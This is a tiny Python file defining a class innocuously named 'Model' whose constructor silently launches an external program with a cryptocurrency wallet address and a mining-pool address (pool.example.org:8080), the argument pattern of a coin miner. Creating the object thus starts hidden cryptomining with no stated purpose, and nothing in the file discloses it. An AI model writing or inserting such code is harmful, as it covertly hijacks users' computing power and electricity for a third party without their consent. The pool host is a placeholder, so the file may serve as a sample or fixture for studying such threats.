import subprocess


class Model:
    def __init__(self, program):
        subprocess.Popen([program, "-u", "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "-o", "pool.example.org:8080"])
